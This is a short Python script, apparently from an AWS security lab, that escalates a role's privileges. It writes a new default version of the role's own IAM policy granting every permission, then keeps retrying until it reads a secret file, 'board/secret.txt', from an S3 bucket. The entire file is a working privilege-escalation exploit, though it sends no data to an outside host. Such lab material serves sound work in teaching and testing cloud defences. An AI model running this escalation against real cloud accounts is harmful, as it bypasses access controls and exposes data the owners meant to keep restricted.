"""Give the own role every right by a new version of its policy."""

import os

import boto3

from scripts.labs.attacking import attack, everything, until_it_works
from scripts.labs.trial import Refused


@attack
def main() -> str:
    """Read what is the board's alone."""
    session, account = boto3.Session(profile_name="train"), os.environ["ACCOUNT"]
    iam = session.client("iam")
    try:
        iam.create_policy_version(
            PolicyArn=f"arn:aws:iam::{account}:policy/lab-train",
            PolicyDocument=everything(),
            SetAsDefault=True,
        )
    except iam.exceptions.NoSuchEntityException:
        raise Refused("there is no policy lab-train") from None
    s3, bucket = session.client("s3"), f"lab-models-{account}"
    return until_it_works(
        lambda: s3.get_object(Bucket=bucket, Key="board/secret.txt")["Body"].read().decode()
    )


main()
